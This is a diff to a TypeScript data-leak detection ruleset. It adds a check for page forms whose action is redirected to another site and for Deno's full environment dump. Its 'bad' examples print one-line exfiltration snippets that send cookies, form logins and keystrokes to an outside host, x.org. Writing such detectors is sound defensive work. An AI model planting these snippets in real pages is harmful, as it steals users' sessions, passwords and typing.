@@ -113,16 +113,19 @@ export const leakRules: readonly Rule[] = [
     match: {
       on: 'assignment',
       about: target => /(^|\.)(src|href|action)$/.test(target),
-      when: ({ value, how }) =>
-        how === 'assign' &&
-        value.kind === 'joined' &&
-        says(value, /^(https?:)?\/\//) &&
-        (comesFrom(value, origin.secret) ||
-          value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|keyCode|target\.value)$/))),
+      when: ({ target, value, how }) =>
+        // A form of this page that is made to send what people type to another site.
+        (how === 'assign' && /\.action$/.test(target) && says(value, /^(https?:)?\/\//)) ||
+        (how === 'assign' &&
+          value.kind === 'joined' &&
+          says(value, /^(https?:)?\/\//) &&
+          (comesFrom(value, origin.secret) ||
+            value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|keyCode|target\.value)$/)))),
     },
     examples: {
       bad: [
         "new Image().src = 'https://x.org/?' + document.cookie",
+        "document.forms[0].action = 'https://x.org/login'",
         "addEventListener('keydown', e => { image.src = 'https://x.org/?' + e.key })",
       ],
       good: ["image.src = 'https://x.org/' + name + '.png'", "link.href = '/items/' + e.target.value"],
@@ -229,6 +232,7 @@ export const leakRules: readonly Rule[] = [
         'os.environ.values',
         'console.log',
         'JSON.stringify',
+        'Deno.env.toObject',
         'Object.entries',
         'Object.keys',
         'Object.values',
@@ -239,7 +243,7 @@ export const leakRules: readonly Rule[] = [
       ],
       when: call => {
         if (call.name === 'os.environ.copy') return { severity: 'low' }
-        if (call.name.startsWith('os.environ.')) return true
+        if (call.name.startsWith('os.environ.') || call.name === 'Deno.env.toObject') return true
         return call.args.some(isEnvironment)
       },
     },
